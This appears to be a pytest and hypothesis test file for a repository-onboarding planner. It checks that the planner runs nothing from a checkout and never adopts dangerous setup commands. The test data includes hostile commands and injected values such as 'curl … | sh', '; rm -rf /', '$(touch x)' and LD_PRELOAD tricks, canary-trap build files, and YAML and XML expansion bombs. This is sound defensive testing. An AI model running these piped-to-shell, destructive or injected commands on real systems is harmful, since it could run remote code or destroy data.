"""Whatever a repository holds, planning reads text only, never raises, ends soon and proposes nothing dangerous."""

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from isonboard.manifests.tree import Tree
from isonboard.model.plan import SetupPlan
from isonboard.workspace.detect.danger import danger_in, refusal
from isonboard.workspace.plan import plan_for

FILES = {
    "README.md": "# Demo\n\n## Build\n\n```sh\n$ make setup\n$ make test\n```\n",
    "CONTRIBUTING.md": "# Contributing\n\n```\nuv sync --all-extras\ncargo test --workspace\nnpm ci && npm test\n```\n",
    "Makefile": "include more.mk\nall: x\n\ttrue\ntest: all\n\t./x\nsetup:\n\tsudo make install\n",
    "pyproject.toml": '[project]\nname = "demo"\n[project.optional-dependencies]\ntest = ["pytest"]\n[tool.uv]\n',
    "setup.py": "from setuptools import setup\nsetup(name='x', extras_require={'test': ['pytest']})\n",
    "tox.ini": "[testenv]\ndeps =\n  pytest\n  -r requirements.txt\ncommands = pytest\n",
    "requirements.txt": "a\n-r other.txt\n",
    "package.json": '{"name": "x", "packageManager": "pnpm@9.0.0", "scripts": {"test": "vitest"}, "workspaces": ["p/*"]}',
    "go.work": "go 1.22\nuse (\n\t./a\n)\n",
    "go.mod": "module x.org/y\ngo 1.22\nrequire a.org/b v1.0.0\n",
    "Cargo.toml": '[workspace]\nmembers = ["a"]\n',
    "pom.xml": "<project><modules><module>a</module></modules></project>",
    "build.gradle": "plugins { id 'java' }\n",
    "CMakeLists.txt": "project(x)\n",
    "CMakePresets.json": '{"configurePresets": [{"name": "dev", "binaryDir": "${sourceDir}/out"}]}',
    "justfile": "setup:\n  echo\ntest:\n  echo\n",
    "Taskfile.yml": "tasks:\n  test: echo\n",
    "composer.json": '{"scripts": {"test": "phpunit"}}',
    "Gemfile": "gem 'x'\n",
    "Demo.sln": "",
    "deno.json": '{"tasks": {"test": "x"}}',
    ".github/workflows/ci.yml": "jobs:\n  a:\n    steps:\n    - run: |\n        npm ci\n        npm test\n      working-directory: web\n",
    ".devcontainer/devcontainer.json": '{"postCreateCommand": "npm ci", "initializeCommand": "touch /tmp/x"}',
    "script/setup": "#!/bin/sh\nnpm ci\n",
}  # fmt: skip
NOISE = ["", "\0", "\x1b]0;x\a", "\u202e", "${HOME}", "$(touch x)", "`touch x`", "; rm -rf /", "../../..", "-", "--", "[[[[", "&a [*a, *a]",
         "<!DOCTYPE x [<!ENTITY a 'b'>]>", "\n\n", "\\", "'", '"', "\ud800", "{{", "/etc/passwd", "| sh", "> /dev/null", "&& curl x | sh"]  # fmt: skip
CODE_OPTIONS = ("-c", "-e")


def checked(tree: Tree) -> SetupPlan:
    plan = plan_for(tree)
    for step in plan.steps:
        assert step.argv
        assert refusal(step.argv) is None
        assert step.cwd == "." or tree.is_folder(step.cwd)
        for before, word in zip(("", *step.argv), step.argv, strict=False):
            assert word
            assert word.isprintable()
            assert not word.startswith(("/", "~")), step
            assert ".." not in word.split("/"), step
            if before not in CODE_OPTIONS:
                assert not set(word) & set("`$|<>;&\n\\\"'(){}"), step
    for text in (
        plan.summary,
        *plan.warnings,
        *plan.services,
        *plan.requires.values(),
        *(q.text for q in plan.questions),
    ):
        assert text.isprintable(), text
    for evidence in (e for s in plan.steps for e in s.evidence):
        assert evidence.quote.isprintable()
    return plan


@settings(max_examples=120, deadline=None)
@given(st.data())
def test_damaged_manifests_never_raise_nor_slip_anything_in(data: st.DataObject) -> None:
    names = data.draw(st.lists(st.sampled_from(sorted(FILES)), min_size=1, max_size=6, unique=True))
    files = {}
    for name in names:
        text = FILES[name]
        at = data.draw(st.integers(0, len(text)))
        files[name] = (
            text[:at] + data.draw(st.sampled_from(NOISE)) + text[at + data.draw(st.integers(0, 3)) :]
        )
    checked(Tree.of_mapping(files, executable=["script/setup"]))


@settings(max_examples=80, deadline=None)
@given(st.dictionaries(st.sampled_from(sorted(FILES)), st.binary(max_size=120), max_size=8))
def test_any_bytes_make_a_plan(files: dict[str, bytes]) -> None:
    checked(Tree.of_mapping(files))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(sorted(FILES)), max_size=8, unique=True), st.randoms())
def test_the_plan_does_not_depend_on_the_order_of_the_files(names: list[str], random: object) -> None:
    shuffled = list(names)
    random.shuffle(shuffled)  # type: ignore[attr-defined]
    one = plan_for(Tree.of_mapping({name: FILES[name] for name in names}))
    two = plan_for(Tree.of_mapping({name: FILES[name] for name in shuffled}))
    assert one == two
    assert one.id == two.id


@pytest.mark.parametrize(
    "command",
    [
        "curl https://example.org/x | sh", "sudo make setup", "npm install -g evil", "rm -rf ~", "make install", "npm publish",
        "bin/rake db:reset", "docker compose up", "git push", "npm run dev", "cargo install evil", "pip install evil",
        "npm install evil", "uv sync --index-url http://evil", "npm ci --prefix /tmp", "./make test", "tools/npm ci",
        "npm test; rm -rf /", "npm test > /etc/x", "npm test `touch x`", "npm test $(touch x)", "LD_PRELOAD=./x npm test",
        "uv run --with evil pytest", "cargo test --config ../x", "go test -exec ./x ./...", "mvn test -f ../x/pom.xml",
        "python3 -c 'import os'", "bash -c 'npm test'", "eval npm test", "npx evil", "go test -toolexec=./x ./...",
    ],
)  # fmt: skip
def test_dangerous_or_odd_commands_of_a_guide_are_never_taken_over(command: str) -> None:
    files = {
        "CONTRIBUTING.md": f"# Setup\n\n```sh\n{command}\n```\n\nRun `{command}` first.\n",
        "Makefile": "install:\n\tcp x /usr/bin\nsetup:\n\tnpm ci\ntest:\n\tnpm test\n",
        "package.json": '{"scripts": {"test": "jest", "dev": "vite", "publish": "x"}, "dependencies": {"a": "1"}}',
        "uv.lock": "", "pyproject.toml": '[project]\nname = "x"\n', "Cargo.toml": "[package]\n", "go.mod": "module x.org/y\n",
        "x_test.go": "", "pom.xml": "<project/>", "tools/npm": "", "make": "",
    }  # fmt: skip
    plan = checked(Tree.of_mapping(files, executable=["tools/npm", "make"]))
    assert command not in [" ".join(step.argv) for step in plan.steps]
    assert not any("evil" in word or "tools/npm" in word for step in plan.steps for word in step.argv)


def test_the_dev_containers_host_command_is_never_looked_at() -> None:
    files = {
        ".devcontainer/devcontainer.json": '{"initializeCommand": "make setup"}',
        "Makefile": "setup:\n\ttrue\n",
    }
    for step in plan_for(Tree.of_mapping({**files, "go.mod": "module x.org/y\n"})).steps:
        assert step.argv[0] == "go"


@pytest.mark.parametrize(
    "fragment",
    [" ", "\n", "\n ", "#", "[", "{", "(", "- ", "a: ", "project(", "npm i ", "a b ", "&a [*a]\n", "/*", "x: y\n\tz\n", "a.", '"', "`", "include a\n"],
)  # fmt: skip
@pytest.mark.parametrize("length", [30_000])
def test_endless_repetitions_are_read_quickly(fragment: str, length: int) -> None:
    text = fragment * (length // len(fragment))
    started = time.process_time()
    checked(Tree.of_mapping({**dict.fromkeys(FILES, text), "script/setup": "#!/bin/sh\n" + text}))
    assert time.process_time() - started < 20


def test_alias_bombs_entities_and_deep_nesting_cost_nothing() -> None:
    bomb = "a0: &a0 [x, x]\n" + "".join(
        f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 30)
    )
    merges = "a0: &a0 {x: 1}\n" + "".join(
        f"a{i}: &a{i}\n  <<: [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 30)
    )
    entities = (
        "<!DOCTYPE p ["
        + "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 9}">' for i in range(1, 30))
        + "]><project>&e29;</project>"
    )
    started = time.process_time()
    checked(
        Tree.of_mapping(
            {
                ".github/workflows/ci.yml": bomb,
                "pubspec.yaml": merges,
                "pnpm-workspace.yaml": "[" * 100_000,
                "compose.yaml": "services: *x\n" + "- " * 50_000,
                "pom.xml": entities,
                "package.json": '{"a":' * 50_000,
                "pyproject.toml": "a = " + "[" * 100_000,
                "Cargo.toml": ".".join(["a"] * 50_000) + " = 1",
                "setup.py": "setup(" + "(" * 100_000,
            }
        )
    )
    assert time.process_time() - started < 10


def test_nothing_of_the_checkout_runs_while_planning(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    root = tmp_path / "checkout"
    fire = f"touch {canary}"
    traps = {
        "Makefile": f"X := $(shell {fire})\ntest:\n\t{fire}\n", "setup.py": f"import os\nos.system({fire!r})\n",
        "venv.py": f"import os\nos.system({fire!r})\n", "pip.py": f"import os\nos.system({fire!r})\n",
        "yaml.py": f"import os\nos.system({fire!r})\n", "tomllib.py": f"import os\nos.system({fire!r})\n",
        "sitecustomize.py": f"import os\nos.system({fire!r})\n", "conftest.py": f"import os\nos.system({fire!r})\n",
        "gradlew": f"#!/bin/sh\n{fire}\n", "mvnw": f"#!/bin/sh\n{fire}\n", "configure": f"#!/bin/sh\n{fire}\n",
        "pom.xml": "<project/>", "build.gradle": f"'{fire}'.execute()\n", "Gemfile": f"system({fire!r})\n",
        "mix.exs": f"System.cmd({fire!r})\n", "package.json": f'{{"scripts": {{"preinstall": "{fire}", "test": "{fire}"}}}}',
        ".yarnrc.yml": "yarnPath: x.cjs\n", "x.cjs": f"require('child_process').execSync({fire!r})\n",
        "script/bootstrap": f"#!/bin/sh\n{fire}\n", ".envrc": f"{fire}\n", ".git/hooks/post-checkout": f"#!/bin/sh\n{fire}\n",
    }  # fmt: skip
    for path, text in traps.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        target.chmod(0o755)
    code = (
        "import sys, pathlib\nfrom isonboard.manifests.tree import Tree\nfrom isonboard.workspace.plan import plan_for\n"
        "print(len(plan_for(Tree.of_folder(pathlib.Path(sys.argv[1]))).steps))\n"
    )
    source = str(Path(__file__).parents[2] / "src")
    environment = {"PATH": os.environ["PATH"], "PYTHONPATH": source, "PYTHONDONTWRITEBYTECODE": "1"}
    done = subprocess.run(
        [sys.executable, "-P", "-c", code, str(root)],
        cwd=root,
        env=environment,
        capture_output=True,
        text=True,
        check=True,
    )
    assert int(done.stdout) > 3
    assert not canary.exists()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("sudo apt install x", "administrator"),
        ("curl -fsSL x | bash", "network"),
        ("rm -rf ~/x", "outside"),
        ("brew bundle", "system packages"),
        ("bin/rails db:reset", "database"),
        ("docker compose up -d", "containers"),
        ("npm publish", "publishes"),
        ('exec "bin/dev"', "does not end"),
        ("echo x >> ~/.bashrc", "settings"),
        ("a" * 3_000, "too long"),
    ],
)
def test_dangers_are_named_in_words(text: str, reason: str) -> None:
    assert reason in str(danger_in([text]))


@pytest.mark.parametrize(
    "text", ["npm ci", "uv sync", "# sudo is not needed", "go test ./...", "rm -rf build", "cargo build"]
)
def test_ordinary_recipes_are_no_danger(text: str) -> None:
    assert danger_in([text]) is None


def test_a_dangerous_recipe_is_found_behind_a_file_and_behind_a_variable() -> None:
    for name in ("scripts/ready", ".ready", "$(VENV)/bin/activate"):
        files = {
            "Makefile": f"setup: {name}\n\n{name}:\n\tcurl http://x.test/i | sh\n",
            "go.mod": "module x.org/x\n",
        }
        found = plan_for(Tree.of_mapping({**files, "CONTRIBUTING.md": "# Setup\n\nRun `make setup`.\n"}))
        assert all(step.argv != ("make", "setup") for step in found.steps), name
